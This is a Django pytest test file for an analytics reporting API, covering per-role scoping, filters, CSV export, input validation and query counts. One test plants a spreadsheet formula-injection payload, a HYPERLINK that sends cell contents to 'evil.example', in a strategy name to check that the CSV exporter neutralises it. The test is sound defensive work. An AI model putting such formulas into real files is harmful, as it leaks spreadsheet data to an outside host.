"""The report endpoints: who sees what, filters, CSV, bad input and query budgets."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from cadence.analytics.tests.history import activity, at, email, plan, result, steps, strategy

pytestmark = pytest.mark.django_db

JANUARY = {"start": "2025-01-01", "end": "2025-02-01"}
ENDPOINTS = [
    "/api/v1/analytics/strategies/",
    "/api/v1/analytics/adherence/",
    "/api/v1/analytics/email/",
]


@pytest.fixture
def shared(rep):
    return strategy("Shared", "Email", "Call", owner=rep)


def add_plans(users, of, count: int) -> None:
    """``count`` plans per user, each with a result, an activity and an email, in January."""
    first = steps(of)[0]
    for user in users:
        for n in range(count):
            made = plan(user, of, at(2 + n % 20), status="In Progress")
            result(made, first, "completed", at(3 + n % 20), due_at=at(3 + n % 20))
            activity(made, "Replied", at(4 + n % 20))
            email(made, first, "sent", at(3 + n % 20))


@pytest.mark.parametrize("url", [*ENDPOINTS, "/api/v1/analytics/strategies/{}/funnel/"])
def test_anonymous_is_401(api_client, shared, url):
    assert api_client.get(url.format(shared.pk)).status_code == 401


def test_each_role_sees_its_scope(client_for, rep, teammate, outsider, manager, admin_user, shared):
    """Reps count their own plans, managers their team's, admins everyone's."""
    add_plans([rep, teammate, outsider], shared, 1)
    expected = {rep: 1, manager: 2, admin_user: 3}
    for viewer, started in expected.items():
        answer = client_for(viewer).get("/api/v1/analytics/strategies/", JANUARY)
        assert answer.status_code == 200
        assert [row["started"] for row in answer.json()] == [started]
        sent = client_for(viewer).get("/api/v1/analytics/email/", JANUARY).json()
        assert sum(row["sent"] for row in sent) == started
        users = client_for(viewer).get("/api/v1/analytics/adherence/", JANUARY).json()["users"]
        assert len(users) == started


def test_funnel_of_another_teams_strategy_is_404(client_for, rep, outsider, manager, shared):
    """A custom strategy is visible to its owner's scope only; templates to everyone."""
    private = strategy("Theirs", "Call", template=False, owner=outsider)
    plan(outsider, private, at(2))
    url = "/api/v1/analytics/strategies/{}/funnel/"
    assert client_for(manager).get(url.format(private.pk), JANUARY).status_code == 404
    assert client_for(rep).get(url.format(private.pk), JANUARY).status_code == 404
    assert client_for(outsider).get(url.format(private.pk), JANUARY).status_code == 200
    missing = "00000000-0000-0000-0000-000000000000"
    assert client_for(rep).get(url.format(missing)).status_code == 404
    answer = client_for(rep).get(url.format(shared.pk), JANUARY)
    assert answer.status_code == 200
    assert [s["step_number"] for s in answer.json()["steps"]] == [1, 2]


def test_filters_by_user_and_team(client_for, rep, teammate, outsider, admin_user, shared):
    add_plans([rep, teammate, outsider], shared, 1)
    client = client_for(admin_user)
    url = "/api/v1/analytics/strategies/"
    by_user = client.get(url, {**JANUARY, "user_id": str(teammate.pk)}).json()
    assert [row["started"] for row in by_user] == [1]
    by_team = client.get(url, {**JANUARY, "team_id": str(rep.team_id)}).json()
    assert [row["started"] for row in by_team] == [2]
    other = strategy("Other", "Email", owner=rep)
    assert client.get(url, {**JANUARY, "strategy_id": str(other.pk)}).json() == []
    assert client.get(url, {"start": "2026-01-01", "end": "2026-02-01"}).json() == []


def read_csv(answer) -> list[list[str]]:
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(answer.content.decode())))


def test_csv_output(client_for, rep, shared):
    add_plans([rep], shared, 2)
    client = client_for(rep)
    table = read_csv(client.get("/api/v1/analytics/strategies/", {**JANUARY, "format": "csv"}))
    assert table[0][:3] == ["strategy_id", "strategy_name", "started"]
    assert "exits_finished" in table[0]
    assert table[1][1:3] == ["Shared", "2"]
    funnel = read_csv(
        client.get(
            f"/api/v1/analytics/strategies/{shared.pk}/funnel/", {**JANUARY, "format": "csv"}
        )
    )
    assert len(funnel) == 3
    assert funnel[0][:4] == ["strategy_id", "strategy_name", "step_id", "step_number"]
    adherence = read_csv(client.get("/api/v1/analytics/adherence/", {**JANUARY, "format": "csv"}))
    assert adherence[0][0] == "section"
    assert {row[0] for row in adherence[1:]} == {"user", "team", "week"}
    emails = read_csv(client.get("/api/v1/analytics/email/", {**JANUARY, "format": "csv"}))
    assert emails[0][0] == "strategy_id"
    assert emails[1][4] == "2"


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
FORMULA_CELLS = {
    # report: (URL, column holding a name, the text cells expected in it)
    "strategies": ("/api/v1/analytics/strategies/", 1, {"'" + FORMULA}),
    "funnel": ("/api/v1/analytics/strategies/{}/funnel/", 1, {"'" + FORMULA}),
    "adherence": ("/api/v1/analytics/adherence/", 2, {"'@SUM(1+1)", "'-2+3", ""}),
    "email": ("/api/v1/analytics/email/", 1, {"'" + FORMULA}),
}


@pytest.mark.parametrize("report", FORMULA_CELLS)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client_for, rep, team, report):
    """A strategy, user or team name starting with =, +, - or @ is written with a leading quote
    in each report's CSV, so a spreadsheet shows it as text; counts stay plain numbers."""
    named = strategy(FORMULA, "Email", "Call", owner=rep)
    rep.display_name = "@SUM(1+1)"
    rep.save(update_fields=["display_name"])
    team.name = "-2+3"
    team.save(update_fields=["name"])
    add_plans([rep], named, 2)
    url, column, expected = FORMULA_CELLS[report]

    table = read_csv(client_for(rep).get(url.format(named.pk), {**JANUARY, "format": "csv"}))

    assert len(table) > 1
    assert {row[column] for row in table[1:]} == expected
    cells = [cell for row in table for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "2" in table[1]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"start": "yesterday"}, "start"),
        ({"end": "2025-13-45"}, "end"),
        ({"start": "2025-02-01", "end": "2025-01-01"}, "end"),
        ({"team_id": "nope"}, "team_id"),
        ({"user_id": "42"}, "user_id"),
        ({"strategy_id": "x"}, "strategy_id"),
        ({"grace_hours": "721"}, "grace_hours"),
        ({"grace_hours": "-1"}, "grace_hours"),
        ({"grace_hours": "soon"}, "grace_hours"),
    ],
)
def test_bad_parameters_are_400_naming_the_field(client_for, rep, shared, params, field):
    client = client_for(rep)
    for url in [
        "/api/v1/analytics/adherence/",
        f"/api/v1/analytics/strategies/{shared.pk}/funnel/",
    ]:
        answer = client.get(url, params)
        assert answer.status_code == 400
        assert field in answer.json()
    if field != "grace_hours":
        for url in ENDPOINTS:
            assert client.get(url, params).status_code == 400


def test_datetimes_and_defaults_are_accepted(client_for, rep, shared):
    client = client_for(rep)
    answer = client.get(
        "/api/v1/analytics/adherence/",
        {"start": "2025-01-01T08:00:00+02:00", "end": "2025-01-02T00:00:00", "grace_hours": 0},
    )
    assert answer.status_code == 200
    assert client.get("/api/v1/analytics/strategies/").status_code == 200


def count_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url, JANUARY).status_code == 200
    return len(queries)


def test_query_budget_does_not_grow_with_plans(client_for, rep, teammate, admin_user, shared):
    """The same number of queries for 2 plans as for 30: everything aggregates in SQL."""
    client = client_for(admin_user)
    urls = [*ENDPOINTS, f"/api/v1/analytics/strategies/{shared.pk}/funnel/"]
    add_plans([rep], shared, 1)
    add_plans([teammate], shared, 1)
    small = {url: count_queries(client, url) for url in urls}
    add_plans([rep, teammate], shared, 14)
    large = {url: count_queries(client, url) for url in urls}
    assert small == large
    assert all(count <= 6 for count in large.values()), large


def test_schema_documents_the_reports(client_for, rep):
    answer = client_for(rep).get("/api/schema/", {"format": "json"})
    assert answer.status_code == 200
    paths = answer.json()["paths"]
    for path in [
        "/api/v1/analytics/strategies/",
        "/api/v1/analytics/strategies/{id}/funnel/",
        "/api/v1/analytics/adherence/",
        "/api/v1/analytics/email/",
    ]:
        operation = paths[path]["get"]
        names = {p["name"] for p in operation["parameters"]}
        assert {"start", "end", "team_id", "user_id", "strategy_id", "format"} <= names
        assert "text/csv" in operation["responses"]["200"]["content"]
    assert "grace_hours" in {
        p["name"] for p in paths["/api/v1/analytics/adherence/"]["get"]["parameters"]
    }
